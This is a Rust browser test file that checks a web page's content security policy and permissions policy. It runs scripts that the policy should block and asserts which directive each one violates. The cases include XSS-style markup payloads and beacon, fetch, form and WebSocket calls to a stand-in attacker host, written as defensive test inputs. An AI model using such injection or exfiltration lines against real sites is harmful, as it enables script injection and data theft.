//! The page's content security policy in a browser: that it is in force, that the page keeps to it in all it does is
//! asserted by every scenario.

use e2e::{Page, Scenario, Shape};
use serde::Deserialize;

use crate::in_each_shape;

/// Runs a script, and says which directives of the policy it violated, each with what was blocked.
async fn violations(page: &Page, script: &str) -> Vec<(String, String)> {
    #[derive(Deserialize)]
    struct Violation {
        directive: String,
        blocked: String,
    }
    let script = format!(
        "return (async () => {{
            const found = [];
            const note = event => found.push({{ directive: event.effectiveDirective, blocked: event.blockedURI }});
            document.addEventListener('securitypolicyviolation', note);
            // In a task of its own: what the driver itself evaluates may evaluate more.
            await new Promise(done => setTimeout(done));
            try {{ await (async () => {{ {script} }})(); }} catch {{}}
            // Some are told of when what was begun is done.
            for (let wait = 0; found.length === 0 && wait < 100; wait++) await new Promise(done => setTimeout(done, 50));
            document.removeEventListener('securitypolicyviolation', note);
            return found;
        }})();"
    );
    let found: Vec<Violation> = page.run(&script, vec![]).await;
    found
        .into_iter()
        .map(|violation| (violation.directive, violation.blocked))
        .collect()
}

#[tokio::test]
async fn what_the_page_does_not_need_is_blocked() {
    let cases = [
        ("eval('1')", "require-trusted-types-for"),
        ("new Function('1')()", "require-trusted-types-for"),
        ("setTimeout('1', 0)", "require-trusted-types-for"),
        (
            "document.body.innerHTML = '<svg><SCRIPT>1</SCRIPT></svg>'",
            "require-trusted-types-for",
        ),
        (
            "document.body.innerHTML = '<img alt=\"\"onerror = alert(1)>'",
            "require-trusted-types-for",
        ),
        (
            "document.body.innerHTML = '<a href=\"JavaScript:alert(1)\">x</a>'",
            "require-trusted-types-for",
        ),
        ("trustedTypes.createPolicy('default', {})", "trusted-types"),
        ("trustedTypes.createPolicy('other', {})", "trusted-types"),
        ("trustedTypes.createPolicy('leptos', {})", "trusted-types"),
        (
            "document.body.setAttribute('style', 'color: red')",
            "style-src-attr",
        ),
        (
            "const style = document.createElement('style'); style.textContent = 'b {}'; document.body.append(style)",
            "style-src-elem",
        ),
        ("await fetch('https://evil.test/')", "connect-src"),
        (
            "await fetch('https://proxy.example.com.evil.test/')",
            "connect-src",
        ),
        ("new WebSocket('wss://evil.test/')", "connect-src"),
        (
            "navigator.sendBeacon('https://evil.test/', 'x')",
            "connect-src",
        ),
        ("new Image().src = 'https://evil.test/x.png'", "img-src"),
        ("new Image().src = '/x.png'", "img-src"),
        (
            "const frame = document.createElement('iframe'); frame.src = 'https://evil.test/'; document.body.append(frame)",
            "frame-src",
        ),
        (
            "const object = document.createElement('object'); object.data = '/x'; document.body.append(object)",
            "require-trusted-types-for",
        ),
        (
            "const base = document.createElement('base'); base.href = 'https://evil.test/'; document.head.append(base)",
            "base-uri",
        ),
        (
            "const form = document.createElement('form'); form.action = 'https://evil.test/'; document.body.append(form); form.submit()",
            "form-action",
        ),
        (
            "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'https://evil.test/x.css'; document.head.append(link)",
            "style-src-elem",
        ),
        ("await import('data:text/javascript,1')", "script-src-elem"),
        ("new Audio('https://evil.test/x.mp3').load()", "media-src"),
        (
            "new FontFace('x', 'url(https://evil.test/x)').load()",
            "font-src",
        ),
    ];
    in_each_shape(async |page| {
        for text in [
            "Content Security Policy",
            "violates",
            "Refused",
            "blocked",
            "This document requires",
            "evil.test",
            "x.png",
            "A network error occurred",
        ] {
            page.expects_in_console(text);
        }
        for (script, directive) in cases {
            page.case(script);
            let found = violations(page, script).await;
            let directives: Vec<_> = found
                .iter()
                .map(|(directive, _)| directive.as_str())
                .collect();
            assert!(directives.contains(&directive), "{script}: {found:?}");
        }
    })
    .await;
}

#[tokio::test]
async fn markup_as_leptos_sets_it_is_let_through() {
    in_each_shape(async |page| {
        const MARKUP: &str =
            r#"<div class="field"><h2 id="title">Is it on? None = 0</h2><!----></div>"#;
        let script = "const template = document.createElement('template');
            template.innerHTML = arguments[0];
            return template.innerHTML";
        let set: String = page.run(script, vec![MARKUP.into()]).await;
        assert_eq!(set, MARKUP);
    })
    .await;
}

#[tokio::test]
#[should_panic(expected = "in the console")]
async fn a_violation_is_found() {
    let stage = Scenario::default().deployed(Shape::SameOrigin);
    stage
        .run(async |page| {
            violations(page, "new Image().src = '/x.png'").await;
        })
        .await;
}

#[tokio::test]
async fn the_page_is_a_secure_context_that_may_write_to_the_clipboard_and_do_nothing_else() {
    in_each_shape(async |page| {
        const SCRIPT: &str = "
            const policy = document.featurePolicy;
            return [isSecureContext, policy.allowsFeature('clipboard-write'), policy.allowsFeature('clipboard-read'),
                policy.allowsFeature('camera'), policy.allowsFeature('geolocation'), policy.allowsFeature('fullscreen')];";
        let allowed: Vec<bool> = page.run(SCRIPT, vec![]).await;
        assert_eq!(allowed, [true, true, false, false, false, false]);
    })
    .await;
}
